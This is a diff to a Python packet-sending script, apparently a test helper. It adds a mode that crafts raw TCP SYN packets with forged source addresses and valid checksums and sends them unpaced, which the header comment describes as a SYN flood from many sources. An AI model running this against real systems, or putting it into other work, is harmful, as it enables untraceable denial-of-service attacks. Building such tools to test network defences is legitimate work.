@@ -15,6 +15,11 @@
 #
 # tcpsend.py --syn ADDR PORT COUNT SEED: COUNT SYNs, each from another
 # source port (a SYN flood from one address), unpaced. Prints "sent <n>".
+#
+# tcpsend.py --syn-from A.B ADDR PORT COUNT SEED: COUNT SYNs to IPv4
+# ADDR:PORT from COUNT distinct addresses A.B.x.y (a SYN flood from many
+# sources), with their own IP headers and valid checksums, unpaced; the
+# sender's route to ADDR is used, whatever the source. Prints "sent <n>".
 
 import random
 import socket
@@ -58,8 +63,45 @@ def syn_flood(sock, dest, port, count, rnd):
     print('sent %d' % count)
 
 
+def csum(data):
+    if len(data) % 2:
+        data += b'\0'
+    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+
+
+def spoofed_syn(src, dst, sport, dport, seq):
+    tcp = struct.pack('!HHIIHHHH', sport, dport, seq, 0, 5 << 12 | 0x02,
+                      64240, 0, 0)
+    pseudo = src + dst + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
+                     socket.IPPROTO_TCP, 0, src, dst)
+    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
+    return ip + tcp
+
+
+def syn_flood_from(args):
+    prefix, addr = args[0], args[1]
+    port, count, seed = int(args[2]), int(args[3]), int(args[4])
+    rnd = random.Random(seed)
+    net = socket.inet_aton(prefix + '.0.0')[:2]
+    dst = socket.inet_aton(addr)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for host in rnd.sample(range(1, 65535), count):
+        src = net + struct.pack('!H', host)
+        sock.sendto(spoofed_syn(src, dst, rnd.randrange(1024, 65536), port,
+                                rnd.randrange(1 << 32)), (addr, 0))
+    print('sent %d' % count)
+
+
 def main():
     args = sys.argv[1:]
+    if args[:1] == ['--syn-from']:
+        syn_flood_from(args[1:])
+        return
     flood = args[:1] == ['--syn']
     if flood:
         args = args[1:]
